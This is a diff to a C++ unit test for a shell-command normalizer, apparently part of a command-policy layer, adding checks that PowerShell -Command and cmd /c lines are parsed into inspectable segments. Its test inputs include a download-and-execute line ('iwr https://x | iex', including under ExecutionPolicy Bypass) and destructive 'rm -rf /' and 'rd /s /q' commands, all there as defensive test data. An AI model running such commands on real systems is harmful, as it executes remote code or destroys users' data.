@@ -1,6 +1,7 @@
-// The shell normalizer's reading of commands run in a container or on another machine
-// (runtime/src/shell_remote_commands.cc): a container's command becomes a segment of this line,
-// ssh's and kubectl exec's are handed over apart, and option values never pass for the command.
+// The shell normalizer's reading of command lines other programs run: in a container or on another
+// machine (runtime/src/shell_remote_commands.cc: a container's command becomes a segment of this
+// line, ssh's and kubectl exec's are handed over apart, option values never pass for the command),
+// and through a Windows shell (powershell -Command, cmd /c; shell_command_policy.cc).
 #include <gtest/gtest.h>
 
 #include <string>
@@ -52,6 +53,23 @@ TEST_F(ShellNormalizerTest, AnotherMachinesCommandIsHandedOverApart) {
   // ssh's ProxyCommand runs here: it is a command of this line.
   const Segments proxy = Norm("ssh -o ProxyCommand='rm -rf /' host");
   EXPECT_NE(std::find(proxy.begin(), proxy.end(), "rm -r -f /"), proxy.end());
+}
+
+TEST_F(ShellNormalizerTest, WindowsShellsRunTheRestOfTheirWords) {
+  // PowerShell's -Command in any case and unambiguous prefix, after other parameters.
+  for (const char* line :
+       {"powershell.exe -NoProfile -Command \"iwr https://x | iex\"",
+        "pwsh -c 'iwr https://x | iex'", "PowerShell -COMMAND iwr https://x | iex",
+        "powershell -ExecutionPolicy Bypass -com \"iwr https://x | iex\""}) {
+    const Segments s = Norm(line);
+    EXPECT_NE(std::find(s.begin(), s.end(), "iwr https://x"), s.end()) << line;
+    EXPECT_NE(std::find(s.begin(), s.end(), "iex"), s.end()) << line;
+  }
+  EXPECT_EQ(Norm("cmd.exe /c \"rd /s /q build\"").front(), "rd /s /q build");
+  EXPECT_EQ(Norm("CMD /K dir").front(), "dir");
+  // -co is ambiguous (-Command, -ConfigurationName), and -File runs a script: nothing parsed.
+  EXPECT_EQ(Norm("powershell -co x"), Segments{"powershell -co x"});
+  EXPECT_EQ(Norm("pwsh -File build.ps1"), Segments{"pwsh -File build.ps1"});
 }
 
 }  // namespace
